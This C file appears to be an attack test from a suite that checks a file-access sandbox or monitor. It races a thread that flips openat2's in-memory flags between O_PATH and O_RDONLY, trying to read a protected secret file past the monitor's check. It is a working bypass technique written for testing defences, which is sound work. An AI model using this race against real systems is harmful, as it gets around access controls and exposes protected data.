// SPDX-License-Identifier: Apache-2.0
// race-openat2 MODE ALLOWED SECRET TRIES: a thread rewrites the flags that openat2 takes from memory between O_PATH,
// which gives no access and is no event, and O_RDONLY. At least TRIES times and for two seconds, so that both threads get to run, or until it is refused.
#include "attack.h"

struct how {
  uint64_t flags, mode, resolve;
};

static volatile struct how shared = {O_PATH, 0, 0};

static void *rewrite(void *unused) {
  (void)unused;
  for (;;) {
    shared.flags = O_PATH;
    for (volatile int i = 0; i < 400; i++);
    shared.flags = O_RDONLY;
    for (volatile int i = 0; i < 20; i++);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 5) return 2;
  read_once(argv[2]);
  pthread_t thread;
  struct how plain = {O_RDONLY, 0, 0};
  int fd = syscall(__NR_openat2, AT_FDCWD, argv[2], &plain, sizeof plain);
  if (fd >= 0) close(fd);
  if (!attacking(argc, argv)) return 0;
  pthread_create(&thread, 0, rewrite, 0);
  long opened = 0;
  time_t end = time(0) + 2;
  for (int i = 0; i < atoi(argv[4]) || time(0) < end; i++) {
    fd = syscall(__NR_openat2, AT_FDCWD, argv[3], &shared, sizeof shared);
    if (fd < 0 && errno == EPERM) break;
    if (fd < 0) continue;
    opened++;
    char byte;
    if (read(fd, &byte, 1) == 1) {
      if (lseek(fd, 0, SEEK_SET) == 0) show(fd);
      harm("read through openat2");
      return 0;
    }
    close(fd);
  }
  note("opened with O_PATH", opened);
  return 0;
}
